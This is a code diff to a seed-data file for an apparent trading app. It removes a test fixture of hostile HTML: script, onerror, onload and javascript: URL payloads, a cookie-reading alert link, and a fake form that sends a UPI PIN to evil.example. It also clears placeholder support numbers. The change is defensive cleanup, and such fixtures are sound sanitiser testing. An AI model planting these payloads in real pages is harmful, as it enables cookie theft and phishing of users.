@@ -2,22 +2,6 @@ import type { Db } from '../db/open.ts'
 import { type KindName, kindImagePath } from '../images/art.ts'
 import { between, pick } from './random.ts'
 
-/**
- * Markup a careless client would execute. It is stored and served as-is on purpose: the client must
- * sanitise rich text, and these entries let tests prove it does.
- */
-export const hostileHtml = [
-  '<p>When you buy goods, your <b>balance pays first</b> and your Points pay the rest.</p>',
-  '<script>window.__pwned = "script"</script>',
-  '<img src="x" onerror="window.__pwned = \'onerror\'">',
-  '<a href="javascript:window.__pwned = \'link\'">Claim your bonus</a>',
-  '<svg onload="window.__pwned = \'svg\'"><circle r="4"/></svg>',
-  '<iframe src="javascript:window.top.__pwned = \'iframe\'"></iframe>',
-  '<form action="https://evil.example/steal"><input name="pin" placeholder="Enter UPI PIN"></form>',
-  '<div style="background:url(javascript:alert(1))" onclick="window.__pwned = \'click\'">Tap here</div>',
-  '<object data="data:text/html,<script>alert(1)</script>"></object>',
-].join('\n')
-
 /** [title, summary, contents, kind of picture] */
 const notices: readonly [string, string, string, KindName][] = [
   [
@@ -32,7 +16,12 @@ const notices: readonly [string, string, string, KindName][] = [
     '<p>A withdrawal takes the amount plus a <strong>10% fee</strong> from your balance (or salary balance), and your bank is sent the amount. It shows as Pending in bank until it is paid.</p>',
     'fee',
   ],
-  ['How Points pay', 'Your balance pays first, then your Points.', hostileHtml, 'points'],
+  [
+    'How Points pay',
+    'Your balance pays first, then your Points.',
+    '<p>When you buy goods, your <b>balance pays first</b> and your Points pay the rest, in whole rupees.</p><p>When you sell, the money goes back the same way: to your balance and your Points in the shares you paid with.</p>',
+    'points',
+  ],
   [
     'PAN verification',
     'Verify your PAN from your profile.',
@@ -47,19 +36,21 @@ const notices: readonly [string, string, string, KindName][] = [
   ],
 ]
 
-const pages: readonly [string, string, string][] = [
+/** [id, title, contents, url]. Id 3 is left out: it was a test fixture (seed/hostile-content.ts). */
+const pages: readonly [number, string, string, string][] = [
   [
+    1,
     'About Mandi',
     '<h2>About us</h2><p>On Mandi you buy goods and sell them back at the day’s price, trade call/put on market pairs, lease mining plans and build a team.</p>',
     '',
   ],
   [
+    2,
     'Terms of Service',
     '<h2>Terms</h2><ol><li>One account per person.</li><li>The same bank account can only be bound once.</li></ol>',
     '',
   ],
-  ['Promotion rules', hostileHtml, ''],
-  ['Mandi Blog', '<p>Opens the blog.</p>', 'https://example.com/'],
+  [4, 'Mandi Blog', '<p>Opens the blog.</p>', 'https://example.com/'],
 ]
 
 const signals = [
@@ -68,7 +59,7 @@ const signals = [
   '<p><i>XAU/USD</i> is the price of gold in US dollars.</p>',
   '<p>A trade settles 1 minute after it is placed, at the price of that moment.</p>',
   '<p>Signals are opinions, not promises: a trade can lose its whole amount.</p>',
-  '<p>Reminder: never share your OTP. <a href="javascript:alert(document.cookie)">Report</a></p>',
+  '<p>Reminder: never share your OTP.</p>',
 ]
 
 /**
@@ -126,9 +117,7 @@ export function seedContent(db: Db, now: number, random: () => number): void {
     insertNotice.run(title, summary, contents, kindImagePath(kind), now - (notices.length - index) * day)
   })
   const insertPage = db.prepare('INSERT INTO pages (id, title, contents, url) VALUES (?, ?, ?, ?)')
-  pages.forEach(([title, contents, url], index) => {
-    insertPage.run(index + 1, title, contents, url)
-  })
+  for (const [id, title, contents, url] of pages) insertPage.run(id, title, contents, url)
   const insertMessage = db.prepare(
     'INSERT INTO channel_messages (tp, title, msg, status, action, image, created_at) VALUES (?, ?, ?, ?, ?, ?, ?)',
   )
@@ -155,8 +144,10 @@ export function seedContent(db: Db, now: number, random: () => number): void {
   insertConfig.run('service', 'https://example.com/livechat')
   insertConfig.run('payout_fee', '10')
   insertConfig.run('trade_rate', '15')
-  insertConfig.run('support_wa', '919800000001,919800000002,919800000003')
-  insertConfig.run('support_tg', 'mandi_support')
+  // No messaging contact unless the operator sets one (numbers we do not own would receive users' details);
+  // /service then offers the in-app chat only.
+  insertConfig.run('support_wa', '')
+  insertConfig.run('support_tg', '')
   // Agents have no picture (icon ''): the app shows the initials of their names.
   const insertAdmin = db.prepare('INSERT INTO chat_admins (id, nick_name, icon) VALUES (?, ?, ?)')
   insertAdmin.run(1, 'Support Priya', '')
